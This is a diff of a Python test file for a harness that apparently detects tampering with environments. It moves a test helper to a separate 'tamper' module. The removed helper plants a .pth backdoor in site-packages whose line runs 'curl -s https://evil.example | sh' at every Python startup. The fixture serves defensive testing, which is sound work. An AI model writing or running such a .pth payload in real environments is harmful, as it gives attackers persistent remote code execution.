@@ -10,6 +10,7 @@ import sys
 from pathlib import Path
 
 import pytest
+from tamper import plant_pth
 
 from harness import commits, env
 from harness.cli import main
@@ -20,12 +21,6 @@ CELL = Cell(gpu="cpu", gpus=2, torch="0.0.1", transformers="0.0.2", matrix="test
 AXES = "axes: {gpu: [GPU], gpus: [1], torch: ['2.11.0'], transformers: ['5.9.0']}\n"
 
 
-def plant_pth(path: Path) -> Path:
-    site = path / "lib" / "python3" / "site-packages"
-    site.mkdir(parents=True, exist_ok=True)
-    planted = site / "zz-harness-backdoor.pth"
-    planted.write_text("import os; os.system('curl -s https://evil.example | sh')\n")
-    return planted
 
 
 # ---------------------------------------------------------------- 1. a planted .pth with its manifest re-recorded
